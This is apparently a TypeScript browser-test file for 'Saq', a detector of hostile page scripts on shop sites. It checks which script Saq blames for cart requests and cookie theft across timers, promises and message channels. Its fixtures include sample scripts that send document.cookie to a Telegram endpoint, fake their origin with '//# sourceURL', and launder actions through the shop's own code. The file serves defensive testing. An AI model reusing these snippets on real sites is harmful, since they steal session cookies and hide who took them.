/**
 * Attribution through timer chains. Code that schedules work with setTimeout calls Saq's hooked
 * setTimeout, and Firefox — whenever it records async stacks (DevTools open, or a WebDriver BiDi session
 * like this one) — shows that wrapper as an async parent frame (`Async*w@<anonymous code>`). Saq's own
 * wrapper must not be read as another extension's MAIN-world code: the shop's own debounced add-to-cart
 * would be blamed on "an extension". The same chain run by a foreign script must still name that script.
 */
import type { Page } from 'puppeteer';
import { expect, it } from 'vitest';
import { pollPage } from '../helpers/harness.ts';
import { HELPER_CDN, TELEGRAM } from '../helpers/hostile/main-world.ts';
import { describeEachBrowser, eventually } from './each-browser.ts';
import { describeVerdicts, maybeVerdict, recordCase, settleAndListLoud, sharedBrowser, verdictOf, visit } from './sensors-main-support.ts';

/**
 * Adds one coin to the cart two timers after it is told to (`window.__go`), the way a debounced shop
 * widget does. The test says "go" through the driver: that makes the page a debuggee, and Firefox then
 * records async stacks — as it does for a person with DevTools open.
 */
const TIMER_CHAIN_CART = `
var wait = setInterval(function () {
  if (!window.__go) return;
  clearInterval(wait);
  setTimeout(function later() {
    setTimeout(function send() {
      fetch('/api/cart/items', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ productId: 'p-102', qty: 1 }) }).then(function () { window.__sent = true; });
    }, 30);
  }, 30);
}, 20);`;

/**
 * A helper that passes its code off as the shop's: each piece ends with `//# sourceURL=` naming the shop's
 * own script, and sends the cookie from a timer, where no frame of the helper's own file is left on the
 * stack. By eval, by `new Function`, and by an inserted inline script (`routes` picks which).
 */
const CLAIMED = 'https://kazcoins.nationalbank.kz/assets/app.js';
type SpoofRoute = 'eval' | 'function' | 'inline';
const sourceUrlSpoof = (routes: readonly SpoofRoute[]): string => `(() => {
  const send = (via) => "setTimeout(function () { fetch('${TELEGRAM}/" + via + "', { method: 'POST', mode: 'no-cors', body: document.cookie || 'sid=?' }); }, 40);\\n//# sourceURL=${CLAIMED}";
  const routes = ${JSON.stringify(routes)};
  if (routes.includes('eval')) eval(send('eval'));
  if (routes.includes('function')) new Function(send('function'))();
  if (routes.includes('inline')) {
    const inline = document.createElement('script');
    inline.textContent = send('inline');
    document.head.appendChild(inline);
  }
})();`;

/** A helper's own script file that claims the shop's script URL at its end, and sends the cookie from a timer. */
const CLAIMING_FILE = `setTimeout(function () {
  fetch('${TELEGRAM}/file', { method: 'POST', mode: 'no-cors', body: document.cookie || 'sid=?' });
}, 40);
//# sourceURL=${CLAIMED}`;

/** The shop's own add-to-cart function, as its front end exposes it. */
const SHOP_CART_FUNCTION = `window.shopAddToCart = function (qty) {
  fetch('/api/cart/items', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ productId: 'p-102', qty: qty }) }).then(function () { window.__sent = true; });
};`;

/** A helper shipped as a data: URL script that calls the shop's function once told to go; its code holds " (". */
const DATA_HELPER =
  'data:text/javascript,var w = setInterval(function () { if (!window.__go) return; clearInterval(w); window.shopAddToCart (1); }, 20);';

const go = (tab: Page): Promise<void> => tab.evaluate(() => void ((window as { __go?: boolean }).__go = true));

const page = (src: string): string =>
  `<!doctype html><html lang="kk"><head><meta charset="utf-8"></head><body><h1>Себет</h1><script src="${src}"></script></body></html>`;

describeEachBrowser('attribution through timer chains', (context) => {
  const browser = sharedBrowser(context);
  const browserName = context.browserName;

  it('stays silent when the shop’s own script adds to the cart from a timer chain', async ({ task }) => {
    context.shop.setFixture('/assets/debounced-cart.js', TIMER_CHAIN_CART, { contentType: 'text/javascript' });
    context.shop.setFixture('/kz/debounced-cart', page('/assets/debounced-cart.js'));
    const saq = await browser();
    const { page: tab, tabId } = await visit(saq, '/kz/debounced-cart');
    await go(tab);
    await pollPage(tab, () => (window as { __sent?: boolean }).__sent === true, undefined, 'the cart request');
    const noisy = await settleAndListLoud(saq, tabId);
    recordCase(task, {
      behaviour: 'cart burst',
      case: "shop's own script adds to cart from a setTimeout chain",
      malicious: false,
      flagged: noisy.length > 0,
      browser: browserName,
    });
    expect(describeVerdicts(noisy)).toEqual([]);
  });

  it('names the foreign script that adds to the cart from a timer chain', async ({ task }) => {
    context.shop.setFixture('/timer-cart.js', TIMER_CHAIN_CART, { host: HELPER_CDN, contentType: 'text/javascript' });
    context.shop.setFixture('/kz/foreign-timer-cart', page(`https://${HELPER_CDN}/timer-cart.js`));
    const saq = await browser();
    const { page: tab, tabId } = await visit(saq, '/kz/foreign-timer-cart');
    await go(tab);
    const verdict = await verdictOf(saq, tabId, 'SAQ-CART-002').catch(() => null);
    recordCase(task, {
      behaviour: 'cart burst',
      case: 'foreign script adds to cart from a setTimeout chain',
      malicious: true,
      flagged: verdict !== null,
      browser: browserName,
    });
    expect(verdict?.finding.actor).toEqual({ type: 'script', url: `https://${HELPER_CDN}/timer-cart.js` });
  });

  it("names a helper's script file by its own address when it claims a shop script's URL (//# sourceURL)", async ({ task }) => {
    context.shop.setFixture('/claiming-file.js', CLAIMING_FILE, { host: HELPER_CDN, contentType: 'text/javascript' });
    context.shop.setFixture('/kz/claiming-file', page(`https://${HELPER_CDN}/claiming-file.js`));
    const saq = await browser();
    const { tabId } = await visit(saq, '/kz/claiming-file');
    const verdict = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', (v) => v.finding.evidence.url === `${TELEGRAM}/file`);
    recordCase(task, {
      behaviour: 'exfiltration',
      case: "cookie → Telegram from a timer, a script file claiming a shop script's URL",
      malicious: true,
      flagged: verdict !== null && verdict.finding.actor.type !== 'page',
      browser: browserName,
    });
    // Firefox prints a file's claimed URL in its stacks too, and Saq never sees a file's text to read the claim:
    // recorded there, not asserted (docs/security.md, open gaps).
    if (browserName !== 'chromium') return;
    expect(verdict?.severity).toBe('critical');
    expect(verdict?.finding.actor).toEqual({ type: 'script', url: `https://${HELPER_CDN}/claiming-file.js` });
  });

  it("names a helper's data: URL script that has the shop's own function add to the cart", async ({ task }) => {
    // The helper's code is its script's address, and it holds " (": Chromium's stack text showed that address
    // where a function's name goes, and the text reader lost the frame — leaving only the shop's own on the stack.
    context.shop.setFixture('/assets/shop-cart.js', SHOP_CART_FUNCTION, { contentType: 'text/javascript' });
    context.shop.setFixture(
      '/kz/data-helper',
      `${page('/assets/shop-cart.js').replace('</body>', `<script src="${DATA_HELPER}"></script></body>`)}`,
    );
    const saq = await browser();
    const { page: tab, tabId } = await visit(saq, '/kz/data-helper');
    await go(tab);
    await pollPage(tab, () => (window as { __sent?: boolean }).__sent === true, undefined, 'the cart request');
    const verdict = await verdictOf(saq, tabId, 'SAQ-CART-002').catch(() => null);
    recordCase(task, {
      behaviour: 'cart burst',
      case: "a data: URL script has the shop's own function add to the cart",
      malicious: true,
      flagged: verdict !== null,
      browser: browserName,
    });
    expect(verdict?.finding.actor.type).toBe('script');
    expect(verdict?.finding.actor.url?.startsWith('data:text/javascript,')).toBe(true);
  });

  // Chromium writes its stacks from V8's call sites, which tell a claimed URL from a script's own: every route.
  // Firefox prints the claimed URL as an ordinary frame: Saq distrusts a URL once it sees code other than the
  // shop's claim it being made (new Function, an inline script); a direct eval is not seen being made — an open
  // gap there (docs/security.md), so Firefox runs the two routes it can see, each on its own page.
  const spoofRoutes: readonly SpoofRoute[] = browserName === 'chromium' ? ['eval', 'function', 'inline'] : ['function', 'inline'];
  it(`does not take a helper's code for the shop's when it claims a shop script's URL (//# sourceURL) and acts from a timer (${spoofRoutes.join(', ')})`, async ({
    task,
  }) => {
    const saq = await browser();
    const found: Record<string, Awaited<ReturnType<typeof maybeVerdict>>> = {};
    // Chromium: all routes on one page. Firefox: one page per route, so one route's claim cannot cover another's.
    const pages = browserName === 'chromium' ? [spoofRoutes] : spoofRoutes.map((route) => [route]);
    for (const routes of pages) {
      const name = `source-url-spoof-${routes.join('-')}`;
      context.shop.setFixture(`/${name}.js`, sourceUrlSpoof(routes), { host: HELPER_CDN, contentType: 'text/javascript' });
      context.shop.setFixture(`/kz/${name}`, page(`https://${HELPER_CDN}/${name}.js`));
      const { tabId } = await visit(saq, `/kz/${name}`);
      for (const via of routes) {
        found[via] = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', (v) => v.finding.evidence.url === `${TELEGRAM}/${via}`);
        recordCase(task, {
          behaviour: 'exfiltration',
          case: `cookie → Telegram from a timer, code claiming a shop script's URL (${via})`,
          malicious: true,
          // Flagged only when the helper is not passed off as the shop (before the fix: critical, but "the shop page").
          flagged: found[via] !== null && found[via].finding.actor.type !== 'page',
          browser: browserName,
        });
      }
    }
    for (const via of spoofRoutes) {
      expect(found[via]?.severity, via).toBe('critical');
      expect(found[via]?.finding.actor.type, via).not.toBe('page');
    }
  });
});

/**
 * The shop's own code as a helper can borrow it: an add-to-cart function, one that waits for a token first, an API
 * client that posts what it is given, a message handler that adds to the cart, and a scheduler that runs queued jobs
 * from its own MessageChannel's messages, as React's does.
 */
const SHOP_LIBRARY = `function cartPost(qty) {
  return fetch('/api/cart/items', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ productId: 'p-102', qty: qty > 0 && qty < 10 ? qty : 1 }) });
}
window.shopAddToCart = function (qty) { return cartPost(qty); };
window.shopAddToCartAsync = async function (qty) { await Promise.resolve('token'); return cartPost(qty); };
window.shopAddToCartLater = function (qty) { return Promise.resolve(qty).then(cartPost); };
window.shopApi = { post: function (url, data) { return fetch(url, { method: 'POST', mode: 'no-cors', body: String(data) }); } };
window.addEventListener('message', function (e) {
  if (e.origin === location.origin && e.data && e.data.type === 'shop:add') window.shopAddToCart(e.data.qty);
});
var shopChannel = new MessageChannel();
var shopJobs = [];
shopChannel.port1.onmessage = function () { var job = shopJobs.shift(); if (job) job(); };
window.shopSchedule = function (job) { shopJobs.push(job); shopChannel.port2.postMessage(null); };`;

/**
 * A helper that has the shop's own code act for it across an async boundary leaves no frame of its own on the stack:
 * the act read as the shop's (or nobody's). Since stop 52 a callback handed to a timer, an animation frame, an idle
 * callback, a microtask or `scheduler.postTask`, and a message the window posts to itself, name who scheduled them
 * (src/content/main/scheduled.ts): those cases are asserted. A message through a MessageChannel stays open too (stop
 * 59 matched them and took it back: docs/security.md), recorded. A promise's reaction and an `await` stay an open gap
 * (docs/security.md, "What Saq cannot see"; a hook of `then` was tried at stop 54 and taken back), recorded in the
 * detection table, not asserted.
 * [route, the helper's code, the request it makes, what it does, whether Saq now names the helper].
 */
const LAUNDERED: Array<[string, string, 'cart' | 'telegram', string, boolean?]> = [
  ['timer', 'setTimeout(shopAddToCart, 0, 1);', 'cart', "the shop's add-to-cart run by a timer", true],
  [
    'timer-chain',
    // Natives and bound functions only: no frame of the helper's is on any stack after its first call.
    'setTimeout(requestAnimationFrame, 0, queueMicrotask.bind(null, shopAddToCart.bind(null, 1)));',
    'cart',
    "the shop's add-to-cart at the end of a timer, an animation frame and a microtask",
    true,
  ],
  ['promise', 'Promise.resolve(1).then(shopAddToCart);', 'cart', "the shop's add-to-cart run by a promise"],
  [
    'promise-timer',
    // A reaction the shop's own code sets up inside a callback the helper scheduled: the shop's (a scheduling the
    // shop's own code made ends a chain, attribution.ts `scheduledBy`; and reactions are not followed). Recorded.
    'setTimeout(shopAddToCartLater, 0, 1);',
    'cart',
    "the shop's add-to-cart from a promise the shop's code makes in a helper's timer",
  ],
  ['message', "window.postMessage({ type: 'shop:add', qty: 1 }, '*');", 'cart', "the shop's own message handler asked to add", true],
  [
    'message-frame',
    // Another realm's postMessage called on the page's window: the event's source is the page's window all the same,
    // and no hook of the page's own postMessage saw it (a hook on the frame's would change every frame message's
    // source: scheduled-callbacks.main.ts). Recorded.
    "const f = document.createElement('iframe'); document.body.appendChild(f); f.contentWindow.postMessage.call(window, { type: 'shop:add', qty: 1 }, '*');",
    'cart',
    "the shop's own message handler asked to add, through a frame's postMessage",
  ],
  [
    'message-channel',
    // The shop's scheduler posts on its own channel; the job runs in the port's message event, a later task.
    'shopSchedule(shopAddToCart.bind(null, 1));',
    'cart',
    "the shop's add-to-cart run by the shop's MessageChannel scheduler",
  ],
  [
    'message-channel-own',
    'var c = new MessageChannel(); c.port1.onmessage = shopAddToCart.bind(null, 1); c.port2.postMessage(0);',
    'cart',
    "the shop's add-to-cart run from the helper's own MessageChannel",
  ],
  [
    'message-channel-frame',
    "var c = new MessageChannel(); c.port1.onmessage = shopAddToCart.bind(null, 1); var f = document.createElement('iframe');" +
      ' document.body.appendChild(f); f.contentWindow.MessagePort.prototype.postMessage.call(c.port2, 0);',
    'cart',
    "the shop's add-to-cart run from the helper's own MessageChannel, posted with a frame's method",
  ],
  ['async-shop', 'shopAddToCartAsync(1);', 'cart', "the shop's add-to-cart that waits for a token first"],
  [
    'bound-fetch',
    "setTimeout(fetch, 0, '/api/cart/items', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId: 'p-102', qty: 1 }) });",
    'cart',
    'fetch itself handed to a timer',
    true,
  ],
  [
    'api-client',
    `setTimeout(shopApi.post, 0, '${TELEGRAM}/laundered', document.cookie || 'sid=?');`,
    'telegram',
    "the shop's API client sends the cookie, from a timer",
    true,
  ],
];

describeEachBrowser('attribution across async boundaries (an open gap, recorded)', (context) => {
  const browser = sharedBrowser(context);
  for (const [route, code, sends, caseName, named] of LAUNDERED)
    it(`${named ? 'names' : 'records'} a helper laundering its act through the shop's code: ${caseName}`, async ({ task }) => {
      context.shop.setFixture('/assets/shop-library.js', SHOP_LIBRARY, { contentType: 'text/javascript' });
      context.shop.setFixture(`/laundered-${route}.js`, `(function () { ${code} })();`, {
        host: HELPER_CDN,
        contentType: 'text/javascript',
      });
      context.shop.setFixture(
        `/kz/laundered-${route}`,
        page('/assets/shop-library.js').replace('</body>', `<script src="https://${HELPER_CDN}/laundered-${route}.js"></script></body>`),
      );
      const before = context.shop.requests.length;
      const saq = await browser();
      const { tabId } = await visit(saq, `/kz/laundered-${route}`);
      // The helper did act: what is recorded is what Saq made of it, not a page that never ran.
      await eventually(
        async () =>
          context.shop.requests
            .slice(before)
            .some((r) => (sends === 'cart' ? r.method === 'POST' && r.path.startsWith('/api/cart/items') : r.host === 'api.telegram.org')),
        (sent) => sent,
        `the helper's ${sends} request`,
      );
      const loud = (await settleAndListLoud(saq, tabId)).filter(
        (v) => v.ruleId.startsWith(sends === 'cart' ? 'SAQ-CART-' : 'SAQ-EXF-') && v.finding.actor.type !== 'page',
      );
      recordCase(task, {
        behaviour: sends === 'cart' ? 'cart burst' : 'exfiltration',
        case: `laundered: ${caseName}`,
        malicious: true,
        flagged: loud.length > 0,
        browser: context.browserName,
      });
      if (named) expect(loud.map((v) => v.finding.actor.url)).toContain(`https://${HELPER_CDN}/laundered-${route}.js`);
    });

  /**
   * A person clicks the shop's own buy button (its handler: `buyScript`, a file of the shop's, after `shopSetup`)
   * while a stranger's script (`strangerScript`, from the helper CDN; it sets `window.__strangerReady` once it is
   * under way) runs beside it: the cart request that follows must stay the shop's.
   */
  async function personBuysBesideStranger(
    task: Parameters<typeof recordCase>[0],
    name: string,
    buyScript: string,
    strangerScript: string,
    caseName: string,
    shopSetup = '',
  ) {
    context.shop.setFixture('/assets/shop-library.js', SHOP_LIBRARY, { contentType: 'text/javascript' });
    context.shop.setFixture(
      `/assets/${name}.js`,
      `${shopSetup}document.getElementById('buy').addEventListener('click', function () { ${buyScript} });`,
      {
        contentType: 'text/javascript',
      },
    );
    context.shop.setFixture(`/${name}-stranger.js`, strangerScript, { host: HELPER_CDN, contentType: 'text/javascript' });
    context.shop.setFixture(
      `/kz/${name}`,
      page('/assets/shop-library.js').replace(
        '</body>',
        `<button id="buy" type="button">Себетке</button><script src="/assets/${name}.js"></script><script src="https://${HELPER_CDN}/${name}-stranger.js"></script></body>`,
      ),
    );
    const before = context.shop.requests.length;
    const saq = await browser();
    const { page: tab, tabId } = await visit(saq, `/kz/${name}`);
    await pollPage(tab, () => (window as { __strangerReady?: boolean }).__strangerReady === true, undefined, "the stranger's script");
    await tab.click('#buy');
    await eventually(
      async () => context.shop.requests.slice(before).some((r) => r.method === 'POST' && r.path.startsWith('/api/cart/items')),
      (sent) => sent,
      "the shop's cart request",
    );
    const cart = (await settleAndListLoud(saq, tabId)).filter((v) => v.ruleId.startsWith('SAQ-CART-'));
    recordCase(task, { behaviour: 'cart burst', case: caseName, malicious: false, flagged: cart.length > 0, browser: context.browserName });
    expect(describeVerdicts(cart)).toEqual([]);
  }

  // A scheduling is the running one only while its callback runs: a person's own purchase after a stranger's timers,
  // animation frames and microtasks ran (and while its interval keeps running) is still the shop's.
  it("leaves the person's own add to cart to the shop while a stranger's timers run", ({ task }) =>
    personBuysBesideStranger(
      task,
      'busy-timers',
      'shopAddToCart(1);',
      'var ticks = 0; setInterval(function () { if (++ticks > 5) window.__strangerReady = true; }, 20);' +
        'requestAnimationFrame(function () { queueMicrotask(function () { window.__framed = true; }); });',
      "a person's own add to cart while a stranger's timers run",
    ));

  // A stranger that only passes the timers' calls on (a tag manager's, a timer booster's or another extension's
  // wrapper of setTimeout): the shop's own debounced add to cart, scheduled through it, stays the shop's.
  it("leaves the shop's own debounced add to cart to the shop when a stranger wraps setTimeout", ({ task }) =>
    personBuysBesideStranger(
      task,
      'wrapped-timers',
      'setTimeout(function () { shopAddToCart(1); }, 30);',
      'var realTimeout = window.setTimeout;' +
        'window.setTimeout = function (f, ms) { return realTimeout.apply(this, arguments); };' +
        'window.__strangerReady = true;',
      "the shop's own debounced add to cart while a stranger wraps setTimeout",
    ));

  // A stranger's timer that runs the shop's start-up does not own the timers the shop then keeps: the shop's own
  // interval, started there, adds to the cart when the person clicks, and that stays the shop's.
  it("leaves the shop's own interval to the shop when a stranger's timer started the shop", ({ task }) =>
    personBuysBesideStranger(
      task,
      'stranger-started',
      'window.__clicked = true;',
      // The shop's start-up handed to the stranger's timer as it is (the stranger's own frame is on no stack then).
      'setTimeout(window.shopStart, 0); setTimeout(function () { window.__strangerReady = true; }, 100);',
      "the shop's own interval, started from a stranger's timer, adds on a person's click",
      'window.shopStart = function () { setInterval(function () { if (window.__clicked) { window.__clicked = false; shopAddToCart(1); } }, 40); };',
    ));

  // Promises (guards for any later attempt at a stranger's reactions, docs/security.md): the shop's own promise-driven
  // add on a person's click stays the shop's while a stranger's script makes promises of its own.
  it("leaves the shop's own add to cart from a promise to the shop while a stranger's script makes promises", ({ task }) =>
    personBuysBesideStranger(
      task,
      'busy-promises',
      'Promise.resolve(1).then(shopAddToCart);',
      'Promise.resolve(1).then(function () { return Promise.all([1, 2].map(function (n) { return Promise.resolve(n); })); })' +
        '.then(function () { window.__strangerReady = true; });',
      "the shop's own add to cart from a promise while a stranger's script makes promises",
    ));

  // A stranger's script whose top level runs the shop's start-up from a promise (a loader). The start-up makes a
  // promise of the person's click and adds to the cart in its reaction: that reaction was set up by the shop's own
  // code, inside the stranger's, and stays the shop's.
  it("leaves the shop's own add to cart to the shop when a stranger's promise started the shop", ({ task }) =>
    personBuysBesideStranger(
      task,
      'promise-started',
      'window.__clicked = true;',
      'Promise.resolve().then(window.shopStart).then(function () { window.__strangerReady = true; });',
      "the shop's own start-up run from a stranger's promise adds from its own reaction on a person's click",
      'window.shopStart = function () { var clicked = new Promise(function (resolve) {' +
        ' document.getElementById("buy").addEventListener("click", resolve); });' +
        ' clicked.then(function () { shopAddToCart(1); }); };',
    ));

  // A message's poster is matched to its event by the message's shape: the shop's own message to its own handler,
  // posted on a person's click while a stranger posts messages of another shape, stays the shop's.
  it("leaves the shop's own message to its handler to the shop while a stranger posts its own", ({ task }) =>
    personBuysBesideStranger(
      task,
      'buy-message',
      "window.postMessage({ type: 'shop:add', qty: 1 }, '*');",
      "var n = 0; setInterval(function () { window.postMessage({ ping: ++n }, '*'); if (n > 5) window.__strangerReady = true; }, 20);",
      "the shop's own message to its handler while a stranger posts its own",
    ));

  // A channel's messages are matched to their posters by the port they go to, in order: the shop's own scheduler,
  // used on a person's click while a stranger posts on channels of its own (and on the shop's, before the click), stays
  // the shop's.
  it("leaves the shop's own MessageChannel job to the shop while a stranger posts on channels", ({ task }) =>
    personBuysBesideStranger(
      task,
      'buy-channel',
      'shopSchedule(function () { shopAddToCart(1); });',
      'var own = new MessageChannel(); var n = 0; own.port1.onmessage = function () {};' +
        'setInterval(function () { own.port2.postMessage(++n); shopSchedule(function () {}); if (n > 5) window.__strangerReady = true; }, 20);',
      "the shop's own MessageChannel job on a person's click while a stranger posts on channels",
    ));
});
